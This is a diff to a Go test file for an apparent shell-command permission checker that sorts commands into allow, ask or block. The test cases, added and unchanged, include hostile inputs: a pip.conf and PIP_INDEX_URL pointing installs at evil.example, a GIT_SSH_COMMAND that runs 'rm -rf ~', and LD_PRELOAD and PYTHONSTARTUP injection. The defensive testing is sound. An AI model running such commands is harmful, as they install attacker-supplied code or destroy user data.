@@ -114,6 +114,10 @@ func TestBuildToolVariables(t *testing.T) {
 		{`PIP_CONFIG_FILE=/tmp/pip.conf pip install x`, dsl.Ask, dsl.Ask}, // was allowed
 		{`PIP_INDEX_URL=https://evil.example/simple pip install x`, dsl.Ask, dsl.Ask},
 		{`PIP_CONFIG_FILE=/dev/null pip install x`, dsl.Allow, dsl.Allow},
+		{"printf '[global]\nindex-url = https://evil.example/simple\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install x", dsl.Ask, dsl.Ask}, // was allowed
+		{"printf '[global]\nindex-url = https://pypi.org/simple\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install x", dsl.Allow, dsl.Allow},
+		{"printf '[global]\ntimeout = 60\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install x", dsl.Allow, dsl.Allow},
+		{`PIP_CONFIG_FILE=pip.conf pip install x`, dsl.Allow, dsl.Allow},
 		{`PYTHONSTARTUP=/tmp/x.py python3 -i`, dsl.Ask, dsl.Ask},
 		{`GIT_SSH_COMMAND='rm -rf ~' git fetch`, dsl.Block, dsl.Block},
 		{`LD_PRELOAD=/tmp/x.so ls`, dsl.Ask, dsl.Ask},
